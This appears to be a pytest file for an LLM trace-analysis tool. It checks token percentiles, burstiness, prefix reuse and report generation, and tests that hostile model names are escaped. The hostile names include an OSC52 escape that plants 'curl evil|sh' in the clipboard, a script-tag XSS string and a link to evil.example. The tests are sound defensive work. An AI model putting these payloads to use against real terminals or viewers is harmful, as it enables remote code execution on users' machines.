"""Characterization numbers checked against values computed by hand (see conftest.HAND)."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from llmfabric.traces.analysis import TraceAnalyzer, auto_bin
from llmfabric.traces.load import iter_batches
from llmfabric.traces.report import analyze_trace


def _analyze(path: Path, **kwargs: float) -> TraceAnalyzer:
    analyzer = TraceAnalyzer(**kwargs)  # type: ignore[arg-type]
    for batch in iter_batches(path, chunk_rows=2):
        analyzer.add(batch)
    return analyzer


def _flat(points: list[tuple[float, float]]) -> list[float]:
    return [v for point in points for v in point]


@pytest.mark.parametrize("container", ["jsonl", "csv", "parquet"])
def test_hand_numbers_in_every_container(
    native_trace: Callable[[str], Path], container: str
) -> None:
    ch = _analyze(native_trace(container), bin_s=60.0).finish()
    a, b = ch.models["a"], ch.models["b-thinking"]
    assert a["requests"] == 4 and b["requests"] == 2
    # inputs of a sorted [10, 20, 36, 40]: linear interpolation
    assert a["input_tokens"] == pytest.approx({"p50": 28.0, "p95": 39.4, "p99": 39.88})
    # outputs of a sorted [0, 10, 50, 90]
    assert a["output_tokens"] == pytest.approx({"p50": 30.0, "p95": 84.0, "p99": 88.8})
    # TPM of a: minute 0 = 30 + 90, minute 1 = 36, minute 3 = 100 -> mean 256/3
    assert a["burstiness_peak"] == pytest.approx(120 / (256 / 3))
    assert a["request_burstiness_peak"] == pytest.approx(2 / (4 / 3))
    assert b["burstiness_peak"] == pytest.approx(1.0)
    # a's timeline (hours): minutes 0, 1 and 3 active; idle minute 2 drops to 0
    mean = 256 / 3
    assert _flat(ch.burstiness_timelines["a"]) == pytest.approx(
        [0.0, 120 / mean, 1 / 60, 36 / mean, 2 / 60, 0.0, 3 / 60, 100 / mean]
    )
    # reuse: r1 0/20, r2 16/40 (block 1), r3 32/36 (blocks 1, 3) -> 48/96
    assert a["prefix_reuse_ratio"] == pytest.approx(0.5)
    assert b["prefix_reuse_ratio"] is None
    # tiers: b holds 6000 / 6256 > 90% alone, so a falls straight into tier 3
    assert [(t["model"], t["tier"]) for t in ch.tiers] == [("b-thinking", 1), ("a", 3)]
    assert ch.tiers[0]["share"] == pytest.approx(6000 / 6256)
    # output ratio per minute, all models: [0,60) 60/120, [60,120) 4000/6036, [180,240) 90/100
    assert _flat(ch.output_ratio["(all)"]) == pytest.approx(
        [0.0, 0.5, 60.0, 4000 / 6036, 180.0, 0.9]
    )
    assert ch.latency is not None
    assert ch.latency["reasoning"] == pytest.approx({"p50": 20.0, "p95": 29.0, "p99": 29.8})
    assert ch.latency["non_reasoning"] == pytest.approx({"p50": 2.0, "p95": 2.0, "p99": 2.0})


def test_reuse_respects_the_history_window(native_trace: Callable[[str], Path]) -> None:
    # With 20 s of history, block 1 (seen at t=0, then t=30) is always too old.
    ch = _analyze(native_trace("jsonl"), history_s=20.0).finish()
    assert ch.models["a"]["prefix_reuse_ratio"] == 0.0


def test_reuse_over_lifetime_series(native_trace: Callable[[str], Path]) -> None:
    ch = _analyze(native_trace("jsonl"), bin_s=60.0).finish()
    # minute 0 of a's life: (0 + 16) / (20 + 40); minute 1: 32 / 36
    assert _flat(ch.prefix_reuse["a"]) == pytest.approx([0.0, 16 / 60, 60.0, 32 / 36])


def test_timeline_drops_to_zero_at_both_edges_of_a_long_gap() -> None:
    from llmfabric.traces.analysis import _timeline

    # active minutes 10 and 20: zeros at minute 11 and minute 19 only
    assert _flat(_timeline({10: 50, 20: 150}, 10, 100.0)) == pytest.approx(
        [0.0, 0.5, 1 / 60, 0.0, 9 / 60, 0.0, 10 / 60, 1.5]
    )


def test_auto_bin_keeps_at_most_100_bins() -> None:
    assert auto_bin(3_000) == 60.0
    assert auto_bin(100 * 60 + 1) == 300.0
    assert auto_bin(400 * 86_400) == 604_800.0
    assert auto_bin(5 * 86_400) == 21_600.0


@pytest.mark.slow
def test_analyze_trace_writes_summary_figures_and_report(
    native_trace: Callable[[str], Path], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    analyze_trace(native_trace("jsonl"), out)
    summary = json.loads((out / "summary.json").read_text())
    assert set(summary) == {"a", "b-thinking"}  # one entry per model, nothing else
    a = summary["a"]
    for key in (
        "requests",
        "input_tokens",
        "output_tokens",
        "burstiness_peak",
        "prefix_reuse_ratio",
    ):
        assert key in a
    assert set(a["input_tokens"]) == {"p50", "p95", "p99"}
    assert summary["b-thinking"]["prefix_reuse_ratio"] is None
    report = (out / "report.md").read_text()
    for fig in (
        "tiers",
        "burstiness",
        "burstiness_timeline",
        "lengths",
        "output_ratio",
        "prefix_reuse",
        "latency",
    ):
        assert (out / f"{fig}.png").read_bytes()[:4] == b"\x89PNG"
        assert json.loads((out / f"{fig}.json").read_text()) is not None
        assert f"({fig}.png)" in report and f"({fig}.json)" in report


def test_trace_without_hashes_or_latency_reports_null(tmp_path: Path) -> None:
    path = tmp_path / "azure_conv.csv"
    path.write_text(
        "TIMESTAMP,ContextTokens,GeneratedTokens\n"
        "2023-11-16 18:15:46.6805900,374,44\n"
        "2023-11-16 18:15:50.9951690,396,109\n"
    )
    out = tmp_path / "out"
    analyze_trace(path, out, plots_enabled=False)
    summary = json.loads((out / "summary.json").read_text())
    model = summary["azure_conv"]
    assert model["requests"] == 2
    assert model["prefix_reuse_ratio"] is None and model["latency_s"] is None
    assert model["input_tokens"]["p50"] == pytest.approx(385.0)
    assert not (out / "prefix_reuse.json").exists() and not (out / "latency.json").exists()
    assert not list(out.glob("*.png"))


OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard
HOSTILE_MODELS = [
    "a|b|c",  # three cells of the table
    "<script>alert(1)</script>",
    "[click](https://evil.example)",
    "`code` and &lt;",
    "m" + OSC52 + "\n| forged | row |",
    "$\\frac{a$",  # a mathtext parse error at savefig
    "_hidden",  # left out of a legend
]


def _hostile_trace(path: Path) -> Path:
    rows = [{"timestamp": float(i * 7 + j), "model": m, "input_tokens": 10 + j,
             "output_tokens": 5, "hash_ids": [1, j], "block_tokens": 16, "latency_s": 1.0}
            for i, m in enumerate(HOSTILE_MODELS) for j in range(3)]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


@pytest.mark.hostile
def test_model_names_in_report_md_are_inert(tmp_path: Path) -> None:
    """`trace analyze`'s report.md carries the models clients asked for: in a Markdown
    viewer none breaks the table, renders HTML, links or code, and no ESC reaches a terminal
    that shows the file."""
    out = tmp_path / "out"
    analyze_trace(_hostile_trace(tmp_path / "t.jsonl"), out, plots_enabled=False)
    report = (out / "report.md").read_text()
    assert "\x1b" not in report and "<script>" not in report
    assert not re.search(r"(?<!\\)\]\(https://evil", report)  # no link
    table = [ln for ln in report.splitlines() if ln.startswith("|")]
    assert len(table) == 2 + len(HOSTILE_MODELS)
    # Every row has the table's 7 cells: no unescaped "|" inside one.
    assert all(len(re.split(r"(?<!\\)\|", ln)) == 9 for ln in table)
    assert "| a\\|b\\|c |" in report and "\\<script\\>" in report
    assert r"| m\\x1b\]52;c;Y3VybCBldmlsfHNo\\x1b\\\\n\| forged \| row \| |" in report


@pytest.mark.slow
@pytest.mark.hostile
def test_model_names_cannot_break_the_plots(tmp_path: Path) -> None:
    out = tmp_path / "out"
    analyze_trace(_hostile_trace(tmp_path / "t.jsonl"), out)
    for fig in ("tiers", "burstiness", "lengths", "prefix_reuse"):
        assert (out / f"{fig}.png").read_bytes()[:4] == b"\x89PNG"


def test_plot_labels_are_verbatim() -> None:
    from llmfabric.traces.plots import label

    assert label("meta-llama/Llama-3.1-8B") == "meta-llama/Llama-3.1-8B"
    assert label("$\\frac{a$") == "\\$\\frac{a\\$"
    assert label("_hidden") == " _hidden" and label("a\x1b") == "a\\x1b"
